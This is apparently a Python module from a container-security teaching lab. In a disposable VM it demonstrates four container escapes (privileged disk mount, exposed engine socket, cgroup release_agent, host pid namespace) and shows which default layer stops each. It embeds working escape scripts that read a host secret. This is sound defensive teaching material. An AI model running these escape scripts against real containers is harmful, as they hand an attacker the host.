"""Container escapes: four classic misconfigurations that hand a container the host, and what stops each.

A container is a process of the host's kernel. Every wall around it is a
kernel check that a runtime switched on, so every wall has a switch that
turns it off again; and some switches, thrown by an operator in a hurry,
hand the container the whole machine:

================  ===========================  ===================================  ==========================
escape            misconfiguration             how it reaches the host              what stops it by default
================  ===========================  ===================================  ==========================
``disk``          ``--privileged``             mknod the host's disk, mount(2) it,  seccomp (no mount(2)
                                               read any file                        without CAP_SYS_ADMIN), and
                                                                                    the capability set itself
``socket``        ``-v /run/engine.sock:...``  ask the engine (root on the host)    nothing in the container:
                                               for a privileged container with /    only not mounting the
                                               bind-mounted                         socket (mount namespace)
``release_agent`` ``--cap-add SYS_ADMIN``      mount a cgroup v1 hierarchy, set its seccomp and capabilities
                                               release_agent: the kernel runs it    (mount(2) refused)
                                               as the host's root
``pid``           ``--pid host --cap-add       /proc/PID/root of a host process is  the pid namespace (no host
                  SYS_PTRACE``                 the host's /                         process visible); without
                                                                                    it, CAP_SYS_PTRACE
================  ===========================  ===================================  ==========================

Each escape runs in a throwaway VM that plays the host (``hostvm.py``),
never on the learner's machine: its disk holds ``/etc/lab-host-secret``,
a random line, and an escape has worked when the container prints it. The
same attack script runs in the same VM as several containers: once with the
misconfiguration, once with ``labcore run``'s defaults, and with one layer
of the default removed, which shows which layer alone is enough to stop it;
and once more misconfigured but inside a user namespace (``IN_USERNS``),
whose capabilities count in that namespace only. The containers are
started inside the VM by ``escapeguest.py``.

Booting the VM under software emulation takes longer than the containers,
so several demos may share one host: ``with EscapeHost() as host:
host.demonstrate("disk"); host.demonstrate("pid")``. Each demo still gets
fresh containers (each with a /dev of its own, where the disk escape
makes its device node), and each escape undoes in the guest what it left
behind (``Escape.undo``: a file holding the secret, a cgroup hierarchy
with a release_agent, the engine daemon, an AppArmor profile), so no later
demo can read the secret from an earlier one's leftovers, nor be stopped
by one. ``demonstrate(ID)`` alone boots a
host for that one escape and stops it.

The attack scripts below are what an attacker types in the container; the
notebook prints them. Used by deep dive D.
"""

from __future__ import annotations

import base64
import json
import os
import re
import shutil
import time
from dataclasses import dataclass, field, replace

from ..errors import InvalidInputError, LabError, UnsupportedError
from .escapeguest import RESULT, SNAPSHOT
from .hostvm import ROOTFS, SECRET_PATH, HostVM

DISK_SH = """#!/bin/sh
# The host's disks are listed in /proc/partitions, which no namespace filters.
set -- $(grep ' nvme0n1$' /proc/partitions)
echo "the host's disk: $4, block device $1:$2"
# A privileged container may create any device node (CAP_MKNOD) and mount (CAP_SYS_ADMIN).
mknod /dev/hostdisk b "$1" "$2" || exit 1
mkdir -p /mnt/host
mount -t ext4 /dev/hostdisk /mnt/host || exit 1
cat /mnt/host/etc/lab-host-secret
"""

SOCKET_PY = """import json, socket, sys
# Whoever reaches the engine's socket speaks for the engine: a daemon running as the host's root.
s = socket.socket(socket.AF_UNIX)
try:
    s.connect("/run/engine.sock")
except OSError as e:
    sys.exit(f"connect /run/engine.sock: {e.strerror}")
ask = {"Image": "busybox", "Cmd": ["cat", "/host/etc/lab-host-secret"],
       "HostConfig": {"Privileged": True, "Binds": ["/:/host"]}}     # the host's / inside the new container
s.sendall(json.dumps(ask).encode() + b"\\n")
print("the engine's container says:", json.loads(s.makefile().readline())["Output"], end="")
"""

RELEASE_AGENT_SH = """#!/bin/sh
rm -f /escape/out
# A new cgroup v1 hierarchy with no controller, only a name: it still has a release_agent file.
mkdir -p /tmp/cg
mount -t cgroup -o none,name=lab-escape cgroup /tmp/cg || exit 1
mkdir -p /tmp/cg/x
echo 1 > /tmp/cg/x/notify_on_release
# Where is our / on the host's disk? The root field of our / mount in mountinfo says.
while read -r id parent dev root point rest; do [ "$point" = / ] && host=$root && break; done < /proc/self/mountinfo
echo "our / is $host on the host"
printf '#!/bin/sh\\ncat /etc/lab-host-secret > %s/escape/out\\n' "$host" > /escape/payload
chmod +x /escape/payload
echo "$host/escape/payload" > /tmp/cg/release_agent || exit 1
# A process joins the cgroup and exits: the cgroup empties, the kernel runs release_agent as the host's root.
sh -c 'echo $$ > /tmp/cg/x/cgroup.procs'
n=0; while [ ! -s /escape/out ] && [ $n -lt 100 ]; do sleep 0.1; n=$((n+1)); done
cat /escape/out
"""

PID_SH = """#!/bin/sh
# Look for the host's init among the processes this container can see.
for d in /proc/[0-9]*; do [ "$(cat $d/comm 2>/dev/null)" = lab-init ] && pid=${d#/proc/}; done
[ -n "$pid" ] || { echo "no host process in sight: PID 1 here is $(cat /proc/1/comm)"; exit 1; }
echo "the host's init is PID $pid here"
# /proc/PID/root is that process's / : the host's root filesystem.
cat /proc/$pid/root/etc/lab-host-secret || exit 1
"""

# In the spirit of Docker's docker-default: everything a container does normally, but no mount at all.
NO_MOUNT_PROFILE = """profile lab-no-mount flags=(attach_disconnected,mediate_deleted) {
  file,
  capability,
  network,
  signal,
  ptrace,
  unix,
  umount,
  pivot_root,
  audit deny mount,     # "audit": an explicit deny is silent unless asked to log
}
"""
PROFILES = {"lab-no-mount": NO_MOUNT_PROFILE}

# What runc does for --security-opt apparmor=PROFILE, last before execve: ask the kernel to switch
# this process to the profile at its next exec (attr/apparmor/exec), then exec the command.
CONFINED_SH = """#!/bin/sh
echo "exec lab-no-mount" > /proc/self/attr/apparmor/exec || exit 1
exec sh /escape/disk.sh
"""

# The same misconfiguration with one layer added: a user namespace whose root is the host's uid 100000
# (labcore run --rootless; Docker's --userns-remap). Its capabilities count inside that namespace only.
IN_USERNS = "same misconfiguration, in a user namespace"

SCRIPTS = {"confined.sh": CONFINED_SH, "disk.sh": DISK_SH, "engine_client.py": SOCKET_PY, "release_agent.sh": RELEASE_AGENT_SH, "pid.sh": PID_SH}
ENGINE_SOCKET = "/run/lab-engine.sock"


@dataclass(frozen=True)
class Escape:
    """One misconfiguration: the attack, the runs to compare, and the layer that stops it."""

    id: str
    title: str
    argv: tuple                 # the attack, run in the container
    runs: tuple                 # (name, labcore run flags, escapes?[, argv]) in order; the first is the misconfiguration
    layer: str                  # which layer of the default stops it, in words
    setup: str = ""             # a command the host's root runs first (the engine)
    after: str = ""             # a command the host's root runs last (its output: Outcome.after)
    undo: str = ""              # run by the host's root after it all: what the escape left in a shared host

    @property
    def script(self) -> str:
        """The attack's text, as the notebook prints it."""
        return SCRIPTS.get(self.argv[-1].rsplit("/", 1)[-1], "")


ESCAPES = {e.id: e for e in (
    Escape("disk", "A --privileged container mounts the host's disk", ("sh", "/escape/disk.sh"),
           (("misconfigured: --privileged", ("--privileged",), True),
            ("default", (), False),
            ("default without seccomp", ("--security-opt", "seccomp=unconfined"), False),
            (IN_USERNS, ("--privileged", "--rootless"), False)),
           "seccomp refuses mount(2) to a container without CAP_SYS_ADMIN (EPERM before any check); "
           "with the filter off, the capability check refuses it too: CAP_SYS_ADMIN is not among the 14"),
    Escape("socket", "The engine's socket mounted into a container", ("python3", "/escape/engine_client.py"),
           (("misconfigured: socket mounted, default profile", ("-v", f"{ENGINE_SOCKET}:/run/engine.sock"), True),
            ("default", (), False),
            (IN_USERNS, ("-v", f"{ENGINE_SOCKET}:/run/engine.sock", "--rootless"), False)),
           "the mount namespace: a default container has nothing of the host mounted, so there is no socket "
           "to connect to. No capability, seccomp rule or masked path helps once it is mounted: the "
           "misconfigured run had all of them",
           setup=f"python3 -m labcore.teach.escapeguest engine {ENGINE_SOCKET} >/run/engine.log 2>&1 & "
                 f"echo $! >/run/engine.pid; "
                 # Python starts slowly in a software-emulated guest: up to 3 minutes, then its log says why
                 f"n=0; while [ ! -S {ENGINE_SOCKET} ] && [ $n -lt 1800 ]; do sleep 0.1; n=$((n+1)); done; "
                 f"echo engine up after $n; test -S {ENGINE_SOCKET} || {{ cat /run/engine.log; exit 1; }}",
           # the engine is a daemon of the host: stop it, and free its socket's path for the next demo
           undo=f"kill $(cat /run/engine.pid); rm -f /run/engine.pid {ENGINE_SOCKET}"),
    Escape("release_agent", "CAP_SYS_ADMIN and cgroup v1's release_agent", ("sh", "/escape/release_agent.sh"),
           (("misconfigured: --cap-add SYS_ADMIN", ("--cap-add", "SYS_ADMIN"), True),
            ("default", (), False),
            ("default without seccomp", ("--security-opt", "seccomp=unconfined"), False),
            (IN_USERNS, ("--cap-add", "SYS_ADMIN", "--rootless"), False)),
           "seccomp refuses mount(2) without CAP_SYS_ADMIN, and the capability check refuses it even with "
           "the filter off: no cgroup hierarchy can be mounted, so there is no release_agent to write",
           # /escape/out holds the secret, in the rootfs every later container shares: delete it (and the
           # payload); remove the hierarchy, which outlives the container while its cgroup x exists
           undo=f"rm -f {ROOTFS}/escape/out {ROOTFS}/escape/payload; mkdir -p /run/lab-cg; "
                "mount -t cgroup -o none,name=lab-escape cgroup /run/lab-cg 2>/dev/null && "
                "{ rmdir /run/lab-cg/x; umount /run/lab-cg; }; rmdir /run/lab-cg"),
    Escape("apparmor", "AppArmor alone stops a --privileged container's mount", ("sh", "/escape/disk.sh"),
           (("misconfigured: --privileged", ("--privileged",), True),
            ("--privileged under the AppArmor profile lab-no-mount", ("--privileged",), False,
             ("sh", "/escape/confined.sh"))),
           "the LSM: AppArmor's mount hook refuses mount(2) to a process confined by lab-no-mount, "
           "whatever its capabilities and with no seccomp filter",
           setup="apparmor_parser -r /etc/lab-apparmor/lab-no-mount && cat /sys/kernel/security/apparmor/profiles",
           after="dmesg | grep 'apparmor=\"DENIED\"' | sed 's/^\\[[ 0-9.]*\\] //'",
           # unload the profile and clear the kernel log, so a later demo's denial is its own
           undo="apparmor_parser -R /etc/lab-apparmor/lab-no-mount && dmesg -c >/dev/null"),
    Escape("pid", "The host's pid namespace with CAP_SYS_PTRACE", ("sh", "/escape/pid.sh"),
           (("misconfigured: --pid host --cap-add SYS_PTRACE", ("--pid", "host", "--cap-add", "SYS_PTRACE"), True),
            ("default", (), False),
            ("--pid host alone", ("--pid", "host"), False),
            (IN_USERNS, ("--pid", "host", "--cap-add", "SYS_PTRACE", "--rootless"), False)),
           "the pid namespace: no host process is visible at all. With --pid host alone, the capability "
           "check stops it: following /proc/PID/root of a process whose capabilities exceed ours "
           "needs CAP_SYS_PTRACE (ptrace access mode checks, ptrace(2))"),
)}


@dataclass
class Run:
    """One container of the comparison: its flags, exit status, output and whether it read the secret."""

    name: str
    flags: tuple
    status: int
    output: str
    seconds: float
    escaped: bool

    def last_line(self) -> str:
        lines = [l for l in self.output.strip().splitlines() if l.strip()]
        return lines[-1] if lines else ""


@dataclass
class Outcome:
    """What one escape did in its throwaway host: every run, and the VM's timings."""

    escape: Escape
    runs: list = field(default_factory=list)
    build_seconds: float = 0.0
    boot_seconds: float = 0.0
    total_seconds: float = 0.0
    lsm: str = ""
    after: str = ""             # the escape's closing command's output (the AppArmor denial in the kernel log)

    def run(self, name: str) -> Run:
        for r in self.runs:
            if r.name == name or r.name.startswith(name):
                return r
        raise InvalidInputError(f"no run {name!r}", f"runs are {', '.join(r.name for r in self.runs)}")

    @property
    def denial(self) -> str:
        """The first AppArmor denial in the guest's kernel log, its stable fields only (no time, no PID)."""
        for line in self.after.splitlines():
            if 'apparmor="DENIED"' in line:
                fields = dict(re.findall(r'(\w+)="([^"]*)"', line))
                return " ".join(f'{k}="{fields[k]}"' for k in ("apparmor", "operation", "profile", "comm", "fstype",
                                                                "srcname", "name") if k in fields)
        return ""

    @property
    def misconfigured(self) -> Run:
        return self.runs[0]

    @property
    def default(self) -> Run:
        return self.run("default")

    @property
    def as_expected(self) -> bool:
        return len(self.runs) == len(self.escape.runs) and all(
            r.escaped == want[2] for r, want in zip(self.runs, self.escape.runs))

    def table(self) -> str:
        width = max(50, *(len(r.name) for r in self.runs))
        rows = [f"{'container':{width}} {'read the host secret':22} last line of its output"]
        for r in self.runs:
            rows.append(f"{r.name:{width}} {'YES: escaped' if r.escaped else 'no':22} {r.last_line()[:70]}")
        return "\n".join(rows)

    def __repr__(self) -> str:
        return (f"{self.escape.title}\n{self.table()}\nstopped by: {self.escape.layer}")


def _clean(text: str, secret: str) -> str:
    return text.replace(secret, "<the host's secret>")


def _escape(escape_id: str, runs=None) -> Escape:
    """The escape named ``escape_id`` (refused with the list if unknown), with other ``runs`` if given."""
    try:
        esc = ESCAPES[escape_id]
    except KeyError:
        raise InvalidInputError(f"no escape {escape_id!r}", f"escapes are {', '.join(ESCAPES)}") from None
    if escape_id == "apparmor" and not (shutil.which("apparmor_parser") or os.path.exists("/sbin/apparmor_parser")):
        raise UnsupportedError("apparmor_parser is missing: the guest loads its AppArmor profile with it",
                               "apt-get install apparmor (sudo make provision does)")
    if runs is not None:
        esc = replace(esc, runs=tuple((n, tuple(f), want) for n, f, want in runs))
    return esc


class EscapeHost:
    """One throwaway host VM for several demos: ``with EscapeHost() as host: host.demonstrate("disk")``.

    Booting takes most of a demo's time under software emulation, so the
    demos of one notebook (or test module) may share a host. What stays
    fresh for each demo: its containers (new namespaces, new policy) and
    the state each escape changes, which ``Escape.undo`` puts back in the
    guest after the demo. The VM and its disk are gone when the block ends,
    also when a command inside fails.
    """

    def __init__(self, memory_mb: int = 512, scripts: dict | None = None):
        self.host = HostVM(scripts or SCRIPTS, PROFILES, memory_mb=memory_mb)
        self.lsm = ""
        self.demos = 0

    def __repr__(self) -> str:
        return f"<EscapeHost {self.demos} demos, {self.host!r}>"

    def __enter__(self) -> "EscapeHost":
        self.host.boot()
        try:
            self.lsm = self.host.run("cat /sys/kernel/security/lsm; echo").strip()
        except BaseException:
            self.close()
            raise
        return self

    def __exit__(self, *exc) -> None:
        self.close()

    def close(self) -> None:
        """Stop QEMU and delete the disk (HostVM.close)."""
        self.host.close()

    @property
    def pid(self):
        """QEMU's process id on this machine (None before boot)."""
        return self.host.vm.pid if self.host.vm else None

    @property
    def running(self) -> bool:
        """Whether the VM still runs (QEMU alive) or its disk still exists: False after the block."""
        vm = self.host.vm
        return (vm is not None and vm.returncode is None) or self.host._scratch is not None

    def demonstrate(self, escape_id: str, runs=None) -> Outcome:
        """Run one escape's containers in this host; see ``demonstrate``."""
        return self._run(_escape(escape_id, runs))

    def processes(self, containers=(("default", ()), ("pid-host", ("--pid", "host", "--cap-add", "SYS_PTRACE")))):
        """The host's process tree while a ``sleep`` container runs for each (name, flags); see
        ``host_processes``."""
        from .diagrams import Diagram
        from .diagrams.processes import Task, tree_dot, tree_text
        encoded = base64.b64encode(json.dumps([[n, list(f)] for n, f in containers]).encode()).decode()
        text = self.host.run(f"python3 -m labcore.teach.escapeguest snapshot {encoded}", timeout=300)
        line = next((l for l in text.splitlines() if l.startswith(SNAPSHOT + " ")), None)
        if line is None:
            raise LabError(f"the host VM sent no process tree: {text[-400:]!r}")
        data = json.loads(line[len(SNAPSHOT) + 1:])
        tasks = [Task(**t) for t in data["tasks"]]
        title = "the host VM's processes: " + ", ".join(f"{n} ({' '.join(f) or 'no flags'})" for n, f in containers)
        return Diagram(tree_dot(tasks, data["ref"], title=title, left_out=data["left_out"]),
                       tree_text(tasks, data["ref"], title=title, left_out=data["left_out"]), title)

    def _run(self, esc: Escape) -> Outcome:
        start = time.monotonic()
        host = self.host
        steps = [{"name": r[0], "flags": list(r[1]), "argv": list(r[3] if len(r) > 3 else esc.argv)}
                 for r in esc.runs]
        encoded = base64.b64encode(json.dumps(steps).encode()).decode()
        out = Outcome(esc, build_seconds=host.build_seconds, boot_seconds=host.boot_seconds, lsm=self.lsm)
        self.demos += 1
        done = False
        try:
            if esc.setup:
                host.run(esc.setup, timeout=300)  # the engine may take minutes to start: see ESCAPES
            text = host.run(f"python3 -m labcore.teach.escapeguest plan {encoded}", timeout=600)
            if esc.after:
                out.after = host.run(esc.after).strip()
            done = True
        finally:
            if esc.undo and host.vm is not None and host.vm.returncode is None:
                try:
                    host.run(esc.undo)
                except LabError:
                    if done:   # a host the undo failed in is unsafe for the next demo: say so
                        raise  # (after a failed demo, its own error is the one to report)
        for line in text.splitlines():
            if line.startswith(RESULT + " "):
                r = json.loads(line[len(RESULT) + 1:])
                flags = next(run[1] for run in esc.runs if run[0] == r["name"])
                out.runs.append(Run(r["name"], flags, r["status"], _clean(r["output"], host.secret), r["seconds"],
                                    host.secret in r["output"]))
        if len(out.runs) != len(esc.runs):
            raise LabError(f"the host VM reported {len(out.runs)} of {len(esc.runs)} runs: {text[-400:]!r}")
        out.total_seconds = time.monotonic() - start
        return out


def demonstrate(escape_id: str, runs=None, memory_mb: int = 512) -> Outcome:
    """Boot a fresh host VM, run the escape's containers in it, stop it; the VM and its disk are gone after.

    ``runs``: other (name, flags, expected) rows to compare instead of the
    escape's own. Used by deep dive D. The secret is random for each VM, so
    a run that prints it has read that VM's disk; outputs show it as
    ``<the host's secret>``. To run several escapes in one VM, use
    ``EscapeHost``.
    """
    esc = _escape(escape_id, runs)          # refused before anything boots
    start = time.monotonic()
    with EscapeHost(memory_mb) as host:
        out = host._run(esc)
    out.total_seconds = time.monotonic() - start   # the boot included: this demo had the VM to itself
    return out


def attack(script: str, flags=("--privileged",), memory_mb: int = 512) -> Run:
    """Run the shell ``script`` (an attacker's own) in one container with ``flags``, in a fresh host VM.

    Used by deep dive D's exercise: the script is saved as /escape/yours.sh
    in the container's root filesystem and run with sh.
    """
    if not isinstance(script, str) or not script.strip():
        raise InvalidInputError("the attack script is empty", "give the shell commands as one string")
    esc = Escape("yours", "your attack", ("sh", "/escape/yours.sh"), (("yours", tuple(flags), True),), "")
    with EscapeHost(memory_mb, {**SCRIPTS, "yours.sh": script}) as host:
        return host._run(esc).runs[0]


def host_processes(containers=(("default", ()), ("pid-host", ("--pid", "host", "--cap-add", "SYS_PTRACE"))),
                   memory_mb: int = 512):
    """The process tree of a fresh host VM while a ``sleep`` container runs for each (name, flags):
    a ``lab.diagrams`` picture, clustered by pid namespace, read from the guest's /proc. Used by deep dive D."""
    with EscapeHost(memory_mb) as host:
        return host.processes(containers)


__all__ = ["ESCAPES", "Escape", "EscapeHost", "Run", "Outcome", "demonstrate", "attack", "host_processes", "SCRIPTS", "SECRET_PATH"]
